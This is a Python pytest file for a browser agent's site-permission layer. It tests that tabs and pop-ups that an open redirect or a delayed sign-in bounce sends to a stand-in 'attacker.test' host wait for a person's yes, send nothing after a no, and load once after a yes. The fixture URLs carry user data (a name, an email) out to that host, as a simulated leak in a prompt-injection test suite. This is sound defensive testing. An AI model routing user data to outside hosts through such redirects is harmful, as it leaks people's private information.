"""A tab the agent opens is judged by where its load actually goes: every request of the
load of a ``new_tab`` or of a pop-up the agent's click opened, redirects included,
passes the site rules before it leaves the browser, through the side panel's door and
through the link outside agents use.

The sites are the made-up ones of ``tests/support/injection_web.py`` (one server that
logs every request it receives): ``shop.test/go?to=URL`` redirects at once (an open
redirect, a short link), ``shop.test/bounce?to=URL`` a second and a half later (a
sign-in server taking its time, so the redirect comes after the click's own action is
over). Whether anything reached ``attacker.test`` is read from that log, never from
what the host says.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import trio

from tests.support.injection_suite import DOORS, open_web, through
from tests.support.injection_web import Web
from tests.support.shared_browser import Shared
from tests.support.xmltree import control_id

pytestmark = pytest.mark.browser

SHOP = "http://shop.test/track.html"
POINTS = "http://shop.test/points.html"
# The shop's open redirect, sending the new tab on to another site with data in its URL.
LEAK = "http://attacker.test/c/leak?who=sam"
OPEN_REDIRECT = f"http://shop.test/go?to={LEAK.replace('?', '%3F').replace('=', '%3D')}"


def _leaked(web: Web, mark: int, path: str) -> list[str]:
    """What reached the attacker's ``path`` since ``mark``."""
    return [str(h) for h in web.since(mark) if h.host == "attacker.test" and h.path == path]


async def _tab_count(tool: Any) -> int:
    listed: Mapping[str, Any] = await tool("tabs", {})
    return str(listed["content"]).count("<tab ")


async def _new_tab(
    door: str, allow: bool, shared: Shared, folder: Path
) -> tuple[Mapping[str, Any], list[Any], list[str], int]:
    """new_tab through ``door`` to the shop's open redirect, the person answering
    ``allow``: the answer, the questions, what reached the attacker, the task's tabs."""
    with trio.fail_after(90):
        async with open_web(shared, folder) as (web, browser):
            page = await browser.new_page()
            async with through(door, page, SHOP, allow) as (tool, asked):
                await tool("capture_snapshot", {})
                mark = len(web.hits)
                opened = await tool("new_tab", {"url": OPEN_REDIRECT})
                tabs = await _tab_count(tool)
                leaked = _leaked(web, mark, "/c/leak")
                return opened, list(asked), leaked, tabs
    raise AssertionError("unreachable")


@pytest.mark.parametrize("door", DOORS)
async def test_new_tab_through_an_open_redirect_to_another_site_asks_and_a_no_sends_nothing(
    door: str, shared_chromium: Shared, tmp_path: Path
) -> None:
    """new_tab to a URL on the task's own site that redirects to another site, the
    person answering no: the site question names the other site, nothing reaches it,
    the answer says the tab was not opened and the task keeps only its first tab."""
    opened, asked, leaked, tabs = await _new_tab(door, False, shared_chromium, tmp_path)
    assert leaked == [], "the redirect left the browser without a yes"
    assert opened["is_error"], opened
    assert "Not done: new_tab did not open" in opened["content"], opened["content"]
    assert "attacker.test" in opened["content"], opened["content"]
    assert any(not h["sent"] for h in opened["held"]), opened
    assert len(asked) == 1, asked
    assert "attacker.test" in str(asked[0]), asked
    assert tabs == 1


@pytest.mark.parametrize("door", DOORS)
async def test_new_tab_through_an_open_redirect_loads_once_after_a_yes(
    door: str, shared_chromium: Shared, tmp_path: Path
) -> None:
    """The same new_tab with the person answering yes: the other site receives the
    request exactly once and the agent acts in the new tab, on the page it landed on."""
    opened, asked, leaked, tabs = await _new_tab(door, True, shared_chromium, tmp_path)
    assert not opened["is_error"], opened["content"]
    assert leaked == ["GET attacker.test/c/leak?who=sam"]
    assert len(asked) == 1, asked
    assert 'url="http://attacker.test/c/leak?who=sam"' in opened["content"], opened["content"]
    assert "you act in it now" in opened["content"]
    assert tabs == 2


async def test_new_tab_on_the_tasks_own_site_asks_nothing(
    shared_chromium: Shared, tmp_path: Path
) -> None:
    """A new tab on the task's own site, through no redirect, opens without a question
    and shows its page."""
    with trio.fail_after(90):
        async with open_web(shared_chromium, tmp_path) as (_, browser):
            page = await browser.new_page()
            async with through("panel", page, SHOP, False) as (tool, asked):
                await tool("capture_snapshot", {})
                opened = await tool("new_tab", {"url": "http://shop.test/warranty.html"})
                assert list(asked) == []
    assert not opened["is_error"], opened["content"]
    assert "Ridgeline 2 tent" in opened["content"]


async def _bounce(
    door: str, allow: bool, shared: Shared, folder: Path
) -> tuple[Mapping[str, Any], list[Any], list[str]]:
    """A click that opens a pop-up on the shop's slow sign-in bounce, through ``door``,
    the person answering ``allow``: the click's answer, the questions, the leak."""
    with trio.fail_after(90):
        async with open_web(shared, folder) as (web, browser):
            page = await browser.new_page()
            async with through(door, page, POINTS, allow) as (tool, asked):
                seen = await tool("capture_snapshot", {})
                mark = len(web.hits)
                clicked = await tool(
                    "click", {"id": control_id(seen["content"], "button", "Refresh my points")}
                )
                # Whatever the pop-up would still send lands before the log is read.
                await trio.sleep(2)
                return clicked, list(asked), _leaked(web, mark, "/c/bounce")
    raise AssertionError("unreachable")


@pytest.mark.parametrize("door", DOORS)
async def test_a_pop_up_bounced_to_another_site_after_the_click_asks_and_a_no_sends_nothing(
    door: str, shared_chromium: Shared, tmp_path: Path
) -> None:
    """A pop-up the agent's click opened starts on the task's own site, whose server
    redirects it to another site only after the click is over: the redirect waits for
    the site question, a no sends nothing there and the answer says the pop-up was
    blocked."""
    clicked, asked, leaked = await _bounce(door, False, shared_chromium, tmp_path)
    assert leaked == [], "the pop-up's redirect left the browser without a yes"
    assert len(asked) == 1, asked
    assert "attacker.test" in str(asked[0]), asked
    assert "it tried to open a pop-up on http://attacker.test/c/bounce" in clicked["content"], (
        clicked["content"]
    )
    assert "blocked" in clicked["content"]


async def test_a_pop_up_bounced_to_another_site_loads_once_after_a_yes(
    shared_chromium: Shared, tmp_path: Path
) -> None:
    """The same pop-up with the person answering yes: the other site receives the
    request once, and the agent is in the pop-up on the page it landed on."""
    clicked, asked, leaked = await _bounce("panel", True, shared_chromium, tmp_path)
    assert leaked == ["GET attacker.test/c/bounce?member=sam.rivera%40mail.test"]
    assert len(asked) == 1, asked
    assert "you are in it now" in clicked["content"], clicked["content"]
